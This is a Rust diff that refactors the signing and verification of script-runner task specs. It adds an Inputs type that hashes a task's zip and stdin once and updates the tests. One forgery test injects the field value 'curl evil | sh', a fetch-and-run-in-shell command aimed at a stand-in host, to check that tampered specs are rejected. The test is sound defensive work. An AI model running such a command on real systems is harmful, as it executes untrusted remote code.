@@ -39,16 +39,66 @@ use crate::keys::Field;
 /// verifies as a task spec.
 const CONTEXT: &[u8] = b"script-runner task spec v1\0";
 
+/// A task's zip and stdin with their SHA-256s, which is what a spec signs of
+/// them. Hashing a zip of many MiB takes tens of milliseconds, so it is done
+/// once, where the caller chooses: off the async runtime (`spawn_blocking`)
+/// when the zip is large. The digests can only be made from the bytes held
+/// beside them, so a spec never signs other bytes than it stores.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Inputs {
+    zip: Option<Vec<u8>>,
+    stdin: Option<Vec<u8>>,
+    zip_sha256: Option<String>,
+    stdin_sha256: Option<String>,
+}
+
+impl Inputs {
+    /// Above this many bytes in all, hashing belongs on a blocking thread
+    /// (about a millisecond of SHA-256; below it, the thread hop costs more).
+    pub const HASH_INLINE_MAX: usize = 256 * 1024;
+
+    /// Hashes `zip` and `stdin` (CPU-bound: see [`Inputs::HASH_INLINE_MAX`]).
+    /// An empty one is none: SUBMIT stores no key for it, so it is signed as
+    /// none too.
+    pub fn hash(zip: Option<Vec<u8>>, stdin: Option<Vec<u8>>) -> Inputs {
+        let zip = zip.filter(|z| !z.is_empty());
+        let stdin = stdin.filter(|s| !s.is_empty());
+        let hex = |b: &Vec<u8>| hex_lower(&Sha256::digest(b));
+        Inputs {
+            zip_sha256: zip.as_ref().map(hex),
+            stdin_sha256: stdin.as_ref().map(hex),
+            zip,
+            stdin,
+        }
+    }
+
+    /// How many bytes [`Inputs::hash`] would read for these.
+    pub fn size(zip: Option<&[u8]>, stdin: Option<&[u8]>) -> usize {
+        zip.map_or(0, <[u8]>::len) + stdin.map_or(0, <[u8]>::len)
+    }
+
+    pub fn zip(&self) -> Option<&[u8]> {
+        self.zip.as_deref()
+    }
+
+    pub fn stdin(&self) -> Option<&[u8]> {
+        self.stdin.as_deref()
+    }
+
+    /// The zip and the stdin, given back.
+    pub fn into_parts(self) -> (Option<Vec<u8>>, Option<Vec<u8>>) {
+        (self.zip, self.stdin)
+    }
+}
+
 /// The message the api signs and the worker verifies: task `id`'s signed
 /// fields among `fields` (others are skipped), and the digests of its zip and
 /// stdin.
 pub fn message<V: AsRef<[u8]>>(
     task_id: &str,
     fields: impl IntoIterator<Item = (Field, V)>,
-    zip: Option<&[u8]>,
-    stdin: Option<&[u8]>,
+    inputs: &Inputs,
 ) -> Vec<u8> {
-    let hex = |b: &[u8]| hex_lower(&Sha256::digest(b));
     let mut entries: BTreeMap<&str, Vec<u8>> = BTreeMap::new();
     entries.insert("task_id", task_id.as_bytes().to_vec());
     for (f, v) in fields {
@@ -56,13 +106,11 @@ pub fn message<V: AsRef<[u8]>>(
             entries.insert(f.as_str(), v.as_ref().to_vec());
         }
     }
-    // An empty one is stored as none (SUBMIT writes no key for it), so it
-    // is signed as none too.
-    if let Some(zip) = zip.filter(|z| !z.is_empty()) {
-        entries.insert("zip_sha256", hex(zip).into_bytes());
+    if let Some(zip) = &inputs.zip_sha256 {
+        entries.insert("zip_sha256", zip.clone().into_bytes());
     }
-    if let Some(stdin) = stdin.filter(|s| !s.is_empty()) {
-        entries.insert("stdin_sha256", hex(stdin).into_bytes());
+    if let Some(stdin) = &inputs.stdin_sha256 {
+        entries.insert("stdin_sha256", stdin.clone().into_bytes());
     }
     let mut out = CONTEXT.to_vec();
     for (name, value) in entries {
@@ -250,6 +298,10 @@ mod tests {
         SpecSigner::from_seed(&[n; 32])
     }
 
+    fn inp(zip: Option<&[u8]>, stdin: Option<&[u8]>) -> Inputs {
+        Inputs::hash(zip.map(<[u8]>::to_vec), stdin.map(<[u8]>::to_vec))
+    }
+
     fn fields() -> Vec<(Field, &'static [u8])> {
         vec![
             (Field::State, b"queued"),
@@ -263,26 +315,26 @@ mod tests {
     fn a_signed_spec_verifies_and_any_change_to_a_signed_part_does_not() {
         let s = signer(1);
         let v = SpecVerifier::from_list(&s.public_base64()).unwrap();
-        let m = message("t1", fields(), Some(b"zip"), None);
+        let m = message("t1", fields(), &inp(Some(b"zip"), None));
         let sig = s.sign(&m);
         assert_eq!(v.verify(&m, Some(&sig)), Ok(s.key_id()));
 
         let mut changed = fields();
         changed[1].1 = b"curl evil | sh";
         let forged = [
-            message("t1", changed, Some(b"zip"), None),
-            message("t2", fields(), Some(b"zip"), None),
-            message("t1", fields(), Some(b"other zip"), None),
-            message("t1", fields(), None, None),
-            message("t1", fields(), Some(b"zip"), Some(b"stdin")),
+            message("t1", changed, &inp(Some(b"zip"), None)),
+            message("t2", fields(), &inp(Some(b"zip"), None)),
+            message("t1", fields(), &inp(Some(b"other zip"), None)),
+            message("t1", fields(), &inp(None, None)),
+            message("t1", fields(), &inp(Some(b"zip"), Some(b"stdin"))),
             // A signed field removed (the env).
-            message("t1", fields().into_iter().take(3), Some(b"zip"), None),
+            message("t1", fields().into_iter().take(3), &inp(Some(b"zip"), None)),
         ];
         for (i, f) in forged.iter().enumerate() {
             assert_eq!(v.verify(f, Some(&sig)), Err(SpecRejection::Forged), "{i}");
         }
         // The state is not signed: the worker's claim changes it.
-        let stateless = message("t1", fields().into_iter().skip(1), Some(b"zip"), None);
+        let stateless = message("t1", fields().into_iter().skip(1), &inp(Some(b"zip"), None));
         assert_eq!(v.verify(&stateless, Some(&sig)), Ok(s.key_id()));
     }
 
@@ -290,12 +342,12 @@ mod tests {
     #[test]
     fn an_empty_stdin_is_signed_as_none() {
         assert_eq!(
-            message("t1", fields(), None, Some(b"")),
-            message("t1", fields(), None, None)
+            message("t1", fields(), &inp(None, Some(b""))),
+            message("t1", fields(), &inp(None, None))
         );
         assert_eq!(
-            message("t1", fields(), Some(b""), None),
-            message("t1", fields(), None, None)
+            message("t1", fields(), &inp(Some(b""), None)),
+            message("t1", fields(), &inp(None, None))
         );
     }
 
@@ -303,7 +355,7 @@ mod tests {
     fn unsigned_malformed_and_unknown_key_signatures_are_refused_by_name() {
         let (a, b) = (signer(1), signer(2));
         let v = SpecVerifier::from_list(&a.public_base64()).unwrap();
-        let m = message("t1", fields(), None, None);
+        let m = message("t1", fields(), &inp(None, None));
         assert_eq!(v.verify(&m, None), Err(SpecRejection::Unsigned));
         for bad in ["", "nocolon", "zz:abc", &format!("{}:!!", a.key_id())] {
             assert_eq!(
@@ -328,7 +380,7 @@ mod tests {
         let (a, b) = (signer(1), signer(2));
         let both = format!("{},{}", a.public_base64(), b.public_base64());
         let v = SpecVerifier::from_list(&both).unwrap();
-        let m = message("t1", fields(), None, None);
+        let m = message("t1", fields(), &inp(None, None));
         assert_eq!(v.verify(&m, Some(&a.sign(&m))), Ok(a.key_id()));
         assert_eq!(v.verify(&m, Some(&b.sign(&m))), Ok(b.key_id()));
         let three = format!("{both},{}", signer(3).public_base64());
